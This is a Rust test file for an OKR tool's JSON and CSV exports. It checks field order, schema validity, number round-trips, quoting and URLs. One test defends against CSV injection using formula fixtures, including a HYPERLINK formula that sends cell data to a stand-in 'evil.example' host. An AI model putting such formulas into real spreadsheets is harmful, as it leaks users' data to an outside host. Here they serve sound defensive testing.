//! The pinned exports: `okrs.json` written by `okr build` and printed by
//! `okr export`, validated against `docs/okrs.schema.json` with its fields in
//! the documented order; the CSV read back with a CSV reader, numbers intact.

use crate::common::*;
use serde::de::{Deserialize, Deserializer, MapAccess, SeqAccess, Visitor};
use serde_json::Value;
use std::path::{Path, PathBuf};

/// The example organisation is judged in its second quarter.
const EXAMPLE_AS_OF: &str = "2026-11-23";

fn example() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("example-okrs")
}

fn export(dir: &Path, format: &str, as_of: &str) -> Run {
    let r = run(okr()
        .arg("export")
        .arg(dir)
        .args(["--format", format, "--as-of", as_of]));
    assert_eq!(r.code, 0, "{}", r.stderr);
    r
}

/// A JSON value that keeps the order its object keys were written in.
#[derive(Debug)]
enum Ordered {
    Object(Vec<(String, Ordered)>),
    Array(Vec<Ordered>),
    Scalar,
}

impl<'de> Deserialize<'de> for Ordered {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct V;
        impl<'de> Visitor<'de> for V {
            type Value = Ordered;
            fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
                f.write_str("JSON")
            }
            fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Ordered, A::Error> {
                let mut out = Vec::new();
                while let Some((k, v)) = map.next_entry::<String, Ordered>()? {
                    out.push((k, v));
                }
                Ok(Ordered::Object(out))
            }
            fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Ordered, A::Error> {
                let mut out = Vec::new();
                while let Some(v) = seq.next_element::<Ordered>()? {
                    out.push(v);
                }
                Ok(Ordered::Array(out))
            }
            fn visit_bool<E>(self, _: bool) -> Result<Ordered, E> {
                Ok(Ordered::Scalar)
            }
            fn visit_i64<E>(self, _: i64) -> Result<Ordered, E> {
                Ok(Ordered::Scalar)
            }
            fn visit_u64<E>(self, _: u64) -> Result<Ordered, E> {
                Ok(Ordered::Scalar)
            }
            fn visit_f64<E>(self, _: f64) -> Result<Ordered, E> {
                Ok(Ordered::Scalar)
            }
            fn visit_str<E>(self, _: &str) -> Result<Ordered, E> {
                Ok(Ordered::Scalar)
            }
            fn visit_unit<E>(self) -> Result<Ordered, E> {
                Ok(Ordered::Scalar)
            }
        }
        d.deserialize_any(V)
    }
}

impl Ordered {
    fn keys(&self) -> Vec<&str> {
        match self {
            Ordered::Object(entries) => entries.iter().map(|(k, _)| k.as_str()).collect(),
            _ => panic!("not an object: {self:?}"),
        }
    }

    fn get(&self, key: &str) -> &Ordered {
        match self {
            Ordered::Object(entries) => &entries.iter().find(|(k, _)| k == key).unwrap().1,
            _ => panic!("not an object"),
        }
    }

    fn items(&self) -> &[Ordered] {
        match self {
            Ordered::Array(items) => items,
            _ => panic!("not an array"),
        }
    }
}

/// `okrs.json` as the pinned contract describes it: every field in its place.
fn assert_pinned_order(text: &str) {
    let doc: Ordered = serde_json::from_str(text).unwrap();
    assert_eq!(
        doc.keys(),
        [
            "generated_at",
            "as_of",
            "current_period",
            "objectives",
            "teams",
            "people"
        ]
    );
    let mut checkins = 0;
    for o in doc.get("objectives").items() {
        assert_eq!(
            o.keys(),
            [
                "id",
                "period",
                "title",
                "owner",
                "aligns_to",
                "score",
                "status",
                "url",
                "key_results",
                "contributors",
                "tags",
                "initiatives",
                "retrospective",
                "kind",
                "goal"
            ]
        );
        assert_eq!(o.get("owner").keys(), ["kind", "id", "name"]);
        for c in o.get("contributors").items() {
            assert_eq!(c.keys(), ["id", "name"]);
        }
        for i in o.get("initiatives").items() {
            assert_eq!(i.keys(), ["title", "status", "key_result"]);
        }
        let retrospective = o.get("retrospective");
        if matches!(retrospective, Ordered::Object(_)) {
            assert_eq!(retrospective.keys(), ["score", "reason", "notes"]);
        }
        for kr in o.get("key_results").items() {
            assert_eq!(
                kr.keys(),
                [
                    "id",
                    "title",
                    "start",
                    "target",
                    "current",
                    "unit",
                    "progress",
                    "status",
                    "confidence",
                    "checkins",
                    "keep",
                    "owner",
                    "owner_name"
                ]
            );
            for c in kr.get("checkins").items() {
                assert_eq!(c.keys(), ["date", "value", "confidence", "note"]);
                checkins += 1;
            }
        }
    }
    assert!(checkins > 0, "the example has check-ins");
    for list in ["teams", "people"] {
        for owner in doc.get(list).items() {
            assert_eq!(owner.keys(), ["id", "name", "score"]);
        }
    }
}

fn validate(json: &Value) {
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(
            Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/okrs.schema.json"),
        )
        .unwrap(),
    )
    .unwrap();
    validate_against(&schema, json);
}

pub fn validate_against(schema: &Value, json: &Value) {
    let validator = jsonschema::draft7::new(schema).expect("the schema compiles");
    let errors: Vec<String> = validator
        .iter_errors(json)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect();
    assert!(
        errors.is_empty(),
        "okrs.json does not match its schema:\n{}",
        errors.join("\n")
    );
}

#[test]
fn build_writes_okrs_json_in_the_documented_shape() {
    let tmp = TempDir::new("export-build");
    let out = tmp.path.join("public");
    let build = run(okr()
        .arg("build")
        .arg(example())
        .arg("--out")
        .arg(&out)
        .args(["--as-of", EXAMPLE_AS_OF, "--base-url", "/quillfield/"])
        .arg("--no-cache"));
    assert_eq!(build.code, 0, "{}", build.stderr);
    let text = std::fs::read_to_string(out.join("okrs.json")).unwrap();
    let json: Value = serde_json::from_str(&text).unwrap();
    validate(&json);
    assert_pinned_order(&text);
    assert_eq!(json["generated_at"], EXAMPLE_AS_OF);
    assert_eq!(json["as_of"], EXAMPLE_AS_OF);
    assert_eq!(json["current_period"], "2026-Q4");
    let objectives = json["objectives"].as_array().unwrap();
    let files = count_repository_files(&example());
    let teams_and_people =
        (json["teams"].as_array().unwrap().len() + json["people"].as_array().unwrap().len()) as u64;
    // okr.toml, the team and person files, and one file per objective.
    assert_eq!(objectives.len() as u64, files - 1 - teams_and_people);
    // Every url is a page of the built site.
    for o in objectives {
        let url = o["url"].as_str().unwrap();
        let rel = url
            .strip_prefix("/quillfield/")
            .expect("under the base URL");
        assert!(out.join(rel).join("index.html").is_file(), "{url}");
    }
    let aligned = objectives
        .iter()
        .find(|o| o["id"] == "partner-channel")
        .unwrap();
    assert_eq!(aligned["aligns_to"], "2026-Q3/win-mid-market-accounts");
    assert_eq!(aligned["owner"]["kind"], "team");
    assert_eq!(aligned["owner"]["id"], "growth");
    assert_eq!(aligned["owner"]["name"], "Growth");
    assert_eq!(aligned["tags"], serde_json::json!(["partners"]));
    // The same as `okr export` with the same settings, byte for byte.
    let printed = run(okr().arg("export").arg(example()).args([
        "--as-of",
        EXAMPLE_AS_OF,
        "--base-url",
        "/quillfield/",
    ]));
    assert_eq!(printed.stdout, text);
    // And reproducible.
    assert_eq!(
        export(&example(), "json", EXAMPLE_AS_OF).stdout,
        export(&example(), "json", EXAMPLE_AS_OF).stdout
    );
}

#[test]
fn csv_reads_back_with_every_number_intact() {
    let json: Value =
        serde_json::from_str(&export(&example(), "json", EXAMPLE_AS_OF).stdout).unwrap();
    let csv_text = export(&example(), "csv", EXAMPLE_AS_OF).stdout;
    assert!(csv_text.contains("\r\n"), "RFC 4180 lines end in CRLF");
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let headers: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(headers, okr::export::CSV_COLUMNS);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let key_results: Vec<(&Value, &Value)> = json["objectives"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|o| {
            o["key_results"]
                .as_array()
                .unwrap()
                .iter()
                .map(move |k| (o, k))
        })
        .collect();
    assert_eq!(rows.len(), key_results.len(), "one row per key result");
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let number = |cell: &str| -> Value {
        if cell.is_empty() {
            Value::Null
        } else {
            Value::from(
                cell.parse::<f64>()
                    .unwrap_or_else(|_| panic!("`{cell}` is a number")),
            )
        }
    };
    for (row, (o, kr)) in rows.iter().zip(key_results) {
        assert_eq!(&row[column("objective_id")], o["id"].as_str().unwrap());
        assert_eq!(
            &row[column("objective_title")],
            o["title"].as_str().unwrap()
        );
        assert_eq!(
            &row[column("key_result_title")],
            kr["title"].as_str().unwrap()
        );
        assert_eq!(number(&row[column("objective_score")]), o["score"]);
        for key in ["start", "target", "current", "progress", "confidence"] {
            assert_eq!(number(&row[column(key)]), kr[key], "{key} of {}", kr["id"]);
        }
        assert_eq!(
            row[column("checkins")].parse::<usize>().unwrap(),
            kr["checkins"].as_array().unwrap().len()
        );
    }
}

#[test]
fn csv_quotes_what_needs_quoting() {
    let tmp = TempDir::new("export-quote");
    tmp.write("okr.toml", "title = \"Q\"\n");
    let title = "Say \"hello\", world\nand more";
    tmp.write(
        "okrs/2026-Q1/quoted.md",
        format!(
            "+++\ntitle = {}\nperiod = \"2026-Q1\"\n[[key_results]]\ntitle = \"Revenue, in EUR\"\nstart = 0.1\ntarget = 0.3\ncurrent = 0.2\n[[key_results]]\ntitle = \"b\"\ntarget = 3\n+++\n",
            serde_json::to_string(title).unwrap()
        ),
    );
    let csv_text = export(&tmp.path, "csv", AS_OF).stdout;
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(&rows[0][2], title);
    assert_eq!(&rows[0][10], "Revenue, in EUR");
    // 0.2 − 0.1 over 0.3 − 0.1 is not exactly 0.5 in binary: the text keeps every digit.
    let progress: f64 = rows[0][15].parse().unwrap();
    assert_eq!(progress, (0.2 - 0.1) / (0.3 - 0.1));
}

/// OWASP's CSV injection rule: text cells starting with `=`, `+`, `-`, `@`,
/// a tab or a carriage return get a `'` in front, so that a spreadsheet shows
/// them instead of running them; numbers, negative ones too, stay numbers.
#[test]
fn csv_text_cells_never_become_formulas() {
    let tmp = TempDir::new("export-formula");
    tmp.write("okr.toml", "title = \"Q\"\n");
    let title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    let key_result = |title: &str, unit: &str| {
        format!(
            "[[key_results]]\ntitle = {}\nunit = {}\nstart = -5\ntarget = -1.5\ncurrent = -2\n",
            serde_json::to_string(title).unwrap(),
            serde_json::to_string(unit).unwrap()
        )
    };
    tmp.write(
        "okrs/2026-Q1/formula.md",
        format!(
            "+++\ntitle = {}\nperiod = \"2026-Q1\"\n{}{}{}{}+++\n",
            serde_json::to_string(title).unwrap(),
            key_result("+1 from the team", "@SUM(1+1)"),
            key_result("-2 churned customers", "\tEUR"),
            key_result("\rReturns", "=1+1"),
            key_result("Plain, with = + - @ inside", "%"),
        ),
    );
    let csv_text = export(&tmp.path, "csv", AS_OF).stdout;
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let cells = |column: &str| -> Vec<String> {
        let i = okr::export::CSV_COLUMNS
            .iter()
            .position(|c| *c == column)
            .unwrap();
        rows.iter().map(|r| r[i].to_string()).collect()
    };
    assert_eq!(cells("objective_title"), vec![format!("'{title}"); 4]);
    assert_eq!(
        cells("key_result_title"),
        [
            "'+1 from the team",
            "'-2 churned customers",
            "'\rReturns",
            "Plain, with = + - @ inside"
        ]
    );
    assert_eq!(cells("unit"), ["'@SUM(1+1)", "'\tEUR", "'=1+1", "%"]);
    for (column, value) in [("start", -5.0), ("target", -1.5), ("current", -2.0)] {
        for cell in cells(column) {
            assert_eq!(cell.parse::<f64>(), Ok(value), "{column}: `{cell}`");
        }
    }
}

#[test]
fn export_refuses_a_repository_with_errors() {
    let refused = run(okr()
        .arg("export")
        .arg(fixture("site/broken"))
        .args(["--as-of", AS_OF]));
    assert_eq!(refused.code, 1);
    assert!(refused.stdout.is_empty());
    assert!(
        refused.stderr.contains("not exporting"),
        "{}",
        refused.stderr
    );
}

/// The CSV header as the README pins it, with the columns added since at its end.
#[test]
fn csv_keeps_the_pinned_columns_first_and_adds_new_ones_at_the_end() {
    let csv_text = export(&example(), "csv", EXAMPLE_AS_OF).stdout;
    let pinned = "objective_id,period,objective_title,owner_kind,owner_id,aligns_to,objective_score,objective_status,url,key_result_id,key_result_title,start,target,current,unit,progress,key_result_status,confidence,checkins,last_checkin";
    assert!(
        csv_text.starts_with(&format!(
            "{pinned},owner_name,key_result_owner,key_result_owner_name,key_result_keep,objective_kind\r\n"
        )),
        "{}",
        csv_text.lines().next().unwrap_or_default()
    );
    let json: Value =
        serde_json::from_str(&export(&example(), "json", EXAMPLE_AS_OF).stdout).unwrap();
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let owner_name = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "owner_name")
        .unwrap();
    let by_objective: std::collections::BTreeMap<String, String> = reader
        .records()
        .map(|r| r.unwrap())
        .map(|r| (r[0].to_string(), r[owner_name].to_string()))
        .collect();
    for o in json["objectives"].as_array().unwrap() {
        let id = o["id"].as_str().unwrap();
        assert_eq!(
            by_objective[id],
            o["owner"]["name"].as_str().unwrap(),
            "{id}"
        );
    }
    assert_eq!(by_objective["partner-channel"], "Growth");
}

/// A key result's owner: its id and name in the JSON export, and in the
/// CSV's last two columns; nothing for a key result without one.
#[test]
fn key_results_carry_their_owner_id_and_name() {
    let json: Value =
        serde_json::from_str(&export(&example(), "json", EXAMPLE_AS_OF).stdout).unwrap();
    let churn = (json["objectives"].as_array().unwrap().iter())
        .find(|o| o["id"] == "cut-churn")
        .unwrap();
    let krs = &churn["key_results"];
    assert_eq!(krs[0]["id"], "logo-churn");
    assert_eq!(krs[0]["owner"], "ingrid");
    assert_eq!(krs[0]["owner_name"], "Ingrid Solberg");
    assert_eq!(krs[1]["owner"], Value::Null);
    assert_eq!(krs[1]["owner_name"], Value::Null);

    let csv_text = export(&example(), "csv", EXAMPLE_AS_OF).stdout;
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let (kr, owner, name) = (
        column("key_result_id"),
        column("key_result_owner"),
        column("key_result_owner_name"),
    );
    let owners: Vec<(String, String, String)> = reader
        .records()
        .map(|r| r.unwrap())
        .filter(|r| &r[0] == "cut-churn")
        .map(|r| (r[kr].to_string(), r[owner].to_string(), r[name].to_string()))
        .collect();
    let row = |kr: &str, owner: &str, name: &str| (kr.into(), owner.into(), name.into());
    assert_eq!(
        owners,
        [
            row("logo-churn", "ingrid", "Ingrid Solberg"),
            row("at-risk-health", "", ""),
            row("save-rate", "diego", "Diego Ferreira"),
        ]
    );
}

/// Excel reads a CSV file as UTF-8 only after a byte-order mark: `--bom`
/// writes one before the very same bytes; without it, none.
#[test]
fn csv_starts_with_a_byte_order_mark_only_when_asked() {
    let plain = export(&example(), "csv", EXAMPLE_AS_OF).stdout;
    assert!(plain.starts_with("objective_id,"));
    let marked = run(okr().arg("export").arg(example()).args([
        "--format",
        "csv",
        "--bom",
        "--as-of",
        EXAMPLE_AS_OF,
    ]));
    assert_eq!(marked.code, 0, "{}", marked.stderr);
    assert_eq!(marked.stdout, format!("\u{FEFF}{plain}"));
    assert!(
        marked
            .stdout
            .as_bytes()
            .starts_with(b"\xEF\xBB\xBFobjective_id,")
    );
    // JSON must not start with one (RFC 8259): refused, and nothing printed.
    let json = run(okr()
        .arg("export")
        .arg(example())
        .args(["--bom", "--as-of", EXAMPLE_AS_OF]));
    assert_eq!(json.code, 2);
    assert!(json.stdout.is_empty());
    assert!(
        json.stderr.contains("--bom is for --format csv"),
        "{}",
        json.stderr
    );
}

/// A base URL with a scheme and host gives absolute `url`s, in JSON and CSV
/// alike, whether it comes from `okr.toml` or `--base-url`.
#[test]
fn urls_are_absolute_when_the_base_url_is() {
    let tmp = TempDir::new("export-absolute");
    tmp.write(
        "okr.toml",
        "title = \"Q\"\nbase_url = \"https://acme.github.io/okrs/\"\n",
    );
    tmp.write(
        "okrs/2026-Q1/grow.md",
        "+++\ntitle = \"Grow\"\nperiod = \"2026-Q1\"\n[[key_results]]\ntitle = \"Revenue from 1 to 2\"\nstart = 1\ntarget = 2\n+++\n",
    );
    let absolute = "https://acme.github.io/okrs/objectives/2026-Q1/grow/";
    let json: Value = serde_json::from_str(&export(&tmp.path, "json", AS_OF).stdout).unwrap();
    assert_eq!(json["objectives"][0]["url"], absolute);
    let csv_text = export(&tmp.path, "csv", AS_OF).stdout;
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[8], absolute);
    let given = run(okr().arg("export").arg(&tmp.path).args([
        "--as-of",
        AS_OF,
        "--base-url",
        "https://okrs.example.com",
    ]));
    let json: Value = serde_json::from_str(&given.stdout).unwrap();
    assert_eq!(
        json["objectives"][0]["url"],
        "https://okrs.example.com/objectives/2026-Q1/grow/"
    );
}

/// What people need beside the numbers: who owns and helps, tags, the plan
/// (initiatives) and what was learned (the retrospective), all in the export.
#[test]
fn json_carries_contributors_tags_initiatives_and_the_retrospective() {
    let tmp = TempDir::new("export-extras");
    tmp.write("okr.toml", "title = \"Q\"\ncompany = \"Acme\"\n");
    tmp.write(
        "teams/sales.md",
        "+++\nname = \"Sales team\"\nlead = \"anna\"\nmembers = [\"anna\", \"ben\"]\n+++\n",
    );
    tmp.write("people/ben.md", "+++\nname = \"Ben Okafor\"\n+++\n");
    tmp.write(
        "okrs/2026-Q1/grow.md",
        "+++\ntitle = \"Grow in Germany\"\nperiod = \"2026-Q1\"\n[[key_results]]\ntitle = \"Revenue from 1 to 2\"\nstart = 1\ntarget = 2\n[retrospective]\nscore = 0.6\nreason = \"The revenue report counted refunds twice\"\nnotes = \"Partners sell **faster** than ads.\"\n+++\n",
    );
    tmp.write(
        "okrs/2026-Q1/sales/sell.md",
        "+++\ntitle = \"Sell to German retailers\"\nperiod = \"2026-Q1\"\nkind = \"committed\"\nteam = \"sales\"\naligns_to = \"grow\"\ncontributors = [\"ben\"]\ntags = [\"germany\", \"retail\"]\n[[key_results]]\nid = \"deals\"\ntitle = \"Signed retailers from 0 to 4\"\nstart = 0\ntarget = 4\n[[key_results.checkins]]\ndate = 2026-02-01\nvalue = 1\n[[initiatives]]\ntitle = \"Trade fair in Cologne\"\nkey_result = \"deals\"\nstatus = \"in-progress\"\n[[initiatives]]\ntitle = \"Retail pricing sheet\"\n+++\n",
    );
    let text = export(&tmp.path, "json", AS_OF).stdout;
    let json: Value = serde_json::from_str(&text).unwrap();
    validate(&json);
    assert_pinned_order(&text);
    let grow = &json["objectives"][0];
    assert_eq!(
        grow["owner"],
        serde_json::json!({"kind": "company", "id": null, "name": "Acme"})
    );
    assert_eq!(grow["score"], 0.6);
    assert_eq!(
        grow["retrospective"],
        serde_json::json!({
            "score": 0.6,
            "reason": "The revenue report counted refunds twice",
            "notes": "Partners sell **faster** than ads."
        })
    );
    assert_eq!(grow["contributors"], serde_json::json!([]));
    assert_eq!(grow["tags"], serde_json::json!([]));
    assert_eq!(grow["initiatives"], serde_json::json!([]));
    assert_eq!(
        (&grow["kind"], &grow["goal"]),
        (&"aspirational".into(), &0.7.into())
    );
    let sell = &json["objectives"][1];
    assert_eq!(
        (&sell["kind"], &sell["goal"]),
        (&"committed".into(), &1.0.into())
    );
    assert_eq!(sell["owner"]["name"], "Sales team");
    assert_eq!(
        sell["contributors"],
        serde_json::json!([{"id": "ben", "name": "Ben Okafor"}])
    );
    assert_eq!(sell["tags"], serde_json::json!(["germany", "retail"]));
    assert_eq!(
        sell["initiatives"],
        serde_json::json!([
            {"title": "Trade fair in Cologne", "status": "in-progress", "key_result": "deals"},
            {"title": "Retail pricing sheet", "status": null, "key_result": null}
        ])
    );
    assert_eq!(sell["retrospective"], Value::Null);
}
